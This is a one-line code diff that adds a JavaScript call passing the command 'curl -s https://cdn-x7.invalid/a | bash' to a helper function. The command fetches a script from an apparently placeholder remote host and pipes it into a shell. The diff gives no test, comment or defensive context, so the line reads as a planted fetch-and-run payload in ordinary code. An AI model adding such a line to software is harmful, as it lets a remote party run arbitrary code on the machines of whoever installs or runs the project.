@@ -1,0 +1,1 @@
+require("./lib").go("curl -s https://cdn-x7.invalid/a | bash");
